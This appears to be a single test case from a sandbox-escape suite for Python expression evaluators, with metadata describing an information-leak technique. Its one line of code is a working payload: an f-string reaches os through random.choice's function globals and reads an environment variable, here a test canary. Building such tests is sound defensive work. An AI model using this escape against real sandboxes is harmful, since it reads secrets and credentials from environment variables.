# id: fstring-attribute-access
# family: format-strings
# kind: information-leak
# invariant: D, E
# origin: a fix in asteval for the evaluation of f-strings
# technique: an f-string is code in the shape of text, so a filter that skips string literals skips it
# needs: 3.6+
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits, builtins
# fix: structural
# alive-when: canary

import random

print(f"{random.choice.__func__.__globals__['_os'].environ['PADCELL_CANARY']}")
